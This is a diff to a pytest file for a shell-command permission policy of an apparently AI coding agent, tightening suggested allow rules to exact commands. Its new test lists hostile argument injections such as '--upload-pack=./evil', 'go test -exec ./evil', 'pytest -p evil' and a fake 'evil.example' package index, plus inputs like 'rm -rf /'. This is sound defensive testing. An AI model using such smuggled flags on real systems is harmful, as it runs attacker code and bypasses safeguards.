@@ -298,18 +298,18 @@ def suggested(policy: Policy, command: str, project: Path) -> list[str]:
 @pytest.mark.parametrize(
     ("command", "expected"),
     [
-        ("npm run build", ["Bash(npm run build *)"]),
-        ("npm test -- --watch=false", ["Bash(npm test *)"]),
-        ("timeout 60 pytest -q", ["Bash(pytest *)"]),
+        ("npm run build", ["Bash(npm run build)"]),
+        ("npm test -- --watch=false", ["Bash(npm test -- --watch=false)"]),
+        ("timeout 60 pytest -q", ["Bash(pytest -q)"]),
         ("git push origin main", ["Bash(git push origin main)"]),
-        ("git add a.py && git commit -m 'x y'", ["Bash(git add *)", "Bash(git commit *)"]),
-        ("ls && make test", ["Bash(make test *)"]),
+        ("git add a.py && git commit -m 'x y'", ["Bash(git add a.py)", "Bash(git commit -m 'x y')"]),
+        ("ls && make test", ["Bash(make test)"]),
         ("python x.py", ["Bash(python x.py)"]),
         ("bash run.sh", ["Bash(bash run.sh)"]),
         ("rm -rf build", ["Bash(rm -rf build)"]),
         ("sudo ls", ["Bash(sudo ls)"]),
         ("curl https://example.com", ["Bash(curl https://example.com)"]),
-        ("cd /somewhere && npm test", ["Bash(cd /somewhere)", "Bash(npm test *)"]),
+        ("cd /somewhere && npm test", ["Bash(cd /somewhere)", "Bash(npm test)"]),
         ("echo $(id)", []),
         ("FOO=1 npm test", []),
         ("rm -rf /", []),
@@ -318,6 +318,35 @@ def suggested(policy: Policy, command: str, project: Path) -> list[str]:
 )
 def test_one_narrow_rule_is_suggested_for_each_part(command: str, expected: list[str], project: Path) -> None:
     assert suggested(policy(), command, project) == expected
+
+
+@pytest.mark.parametrize(
+    ("asked", "wider"),
+    [
+        ("git fetch", "git fetch --upload-pack=./evil origin"),
+        ("git pull", "git pull --upload-pack=./evil origin"),
+        ("git push", "git push --receive-pack=./evil origin"),
+        ("git clone https://example.com/x", "git clone https://example.com/x -c core.hooksPath=evil"),
+        ("git commit -m x", "git commit -m x --no-verify"),
+        ("git add .", "git add . -f .env"),
+        ("make test", "make test -f evil.mk"),
+        ("go vet", "go vet -vettool=./evil"),
+        ("go test", "go test -exec ./evil"),
+        ("cargo build", "cargo build --config evil.toml"),
+        ("npm test", "npm test --script-shell=./evil"),
+        ("npm run build", "npm run build --prefix evil"),
+        ("pytest", "pytest -p evil"),
+        ("mypy", "mypy --python-executable ./evil"),
+        ("eslint", "eslint --config evil.js"),
+        ("gradle test", "gradle test -I evil.gradle"),
+        ("uv sync", "uv sync --index-url https://evil.example"),
+    ],
+)
+def test_an_answer_allows_no_further_arguments(asked: str, wider: str, project: Path) -> None:
+    start = policy()
+    allowed = start.with_allowed(suggested(start, asked, project), "this session")
+    assert bash(allowed, asked, project).behavior == "allow"
+    assert bash(allowed, wider, project).behavior == "ask"
 
 
 def test_a_redirection_is_suggested_as_an_edit_of_its_target(project: Path) -> None:
